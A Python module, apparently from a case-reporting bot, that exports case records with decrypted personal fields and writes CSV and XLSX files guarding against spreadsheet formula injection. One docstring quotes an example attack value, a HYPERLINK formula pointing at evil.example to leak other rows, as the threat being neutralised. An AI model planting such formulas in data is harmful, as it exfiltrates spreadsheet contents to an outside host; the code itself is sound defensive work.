"""Every case as one flat record, personal fields decrypted (for `run_bot.py cases export`), and
the CSV and XLSX writers that the command line and the console's exports share: both neutralise
formulas, since a worker's answer is untrusted text that a supervisor opens in a spreadsheet."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator, Mapping, Sequence
from datetime import datetime
from typing import Any

from sqlalchemy import select

from storage.crypto import decrypt_json
from storage.models import cases, reporters
from storage.sql_store import SqlStore, aware

#: answers that are not useful in an export (display copies are kept for the words)
SKIP = frozenset({"consent", "consent_display", "menu_choice", "menu_choice_display", "case_number"})


async def iter_cases_for_export(store: SqlStore) -> AsyncIterator[dict[str, Any]]:
    query = (
        select(cases, reporters.c.wrapped_key)
        .outerjoin(reporters, reporters.c.id == cases.c.reporter_id)
        .order_by(cases.c.created_at, cases.c.id)
    )
    async with store.engine.connect() as conn:
        result = await conn.stream(query)
        async for row in result:
            fields: dict[str, Any] = {}
            if row.fields_enc is not None and row.wrapped_key is not None:
                fields = decrypt_json(store.keyring.unwrap(row.wrapped_key), row.fields_enc)
            created = aware(row.created_at)
            record: dict[str, Any] = {
                "number": row.number,
                "status": row.status,
                "category": row.category,
                "secondary_categories": list(row.secondary_categories or []),
                "country": row.country,
                "city": fields.get("city"),
                "urgent": bool(row.urgent),
                "discreet": bool(row.discreet),
                "reporter_kind": row.reporter_kind,
                "sex": row.sex,
                "language": row.language,
                "indicators": list(row.indicators or []),
                "created_at": created.isoformat() if created else None,
                "province": row.province,
                "age": row.age,
                "route": row.route,
                "flow": row.flow,
                "erased": row.fields_enc is None,
            }
            for key, value in fields.items():
                if key not in SKIP and key not in record and not key.endswith("_display"):
                    record[key] = value
            yield record


# ---------------------------------------------------------------------- safe spreadsheets
#: what makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A CSV cell that a spreadsheet will show as text, never run: a worker's answer
    ``=HYPERLINK("http://evil.example/x","klik")`` must not become a link that leaks the other
    rows when a supervisor opens the export. Text starting with ``= + - @``, a tab or a carriage
    return gets a leading apostrophe, as OWASP advises; numbers and dates stay as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def _plain(value: Any) -> Any:
    if isinstance(value, datetime):
        return value.isoformat()
    if isinstance(value, list | tuple):
        return ";".join(map(str, value))
    return value


def csv_text(rows: Sequence[Mapping[str, Any]], columns: Sequence[str]) -> str:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(columns), extrasaction="ignore")
    writer.writerow({c: neutralise(c) for c in columns})
    for row in rows:
        writer.writerow({k: neutralise(_plain(v)) for k, v in row.items()})
    return buffer.getvalue()


def xlsx_bytes(rows: Sequence[Mapping[str, Any]], columns: Sequence[str]) -> bytes:
    """Every text cell is written as a string (openpyxl would store ``=...`` as a formula), with
    the control characters XML cannot hold removed; numbers, booleans and dates keep their type."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = Workbook(write_only=True)
    sheet = book.create_sheet("cases")

    def cell(value: Any) -> WriteOnlyCell:
        if isinstance(value, datetime):
            return WriteOnlyCell(sheet, value=value.replace(tzinfo=None))
        if isinstance(value, bool | int | float) or value is None:
            return WriteOnlyCell(sheet, value=value)
        text = ILLEGAL_CHARACTERS_RE.sub("", str(_plain(value)))
        out = WriteOnlyCell(sheet, value=text)
        out.data_type = "s"  # a string, whatever it starts with
        return out

    sheet.append([cell(c) for c in columns])
    for row in rows:
        sheet.append([cell(row.get(c)) for c in columns])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
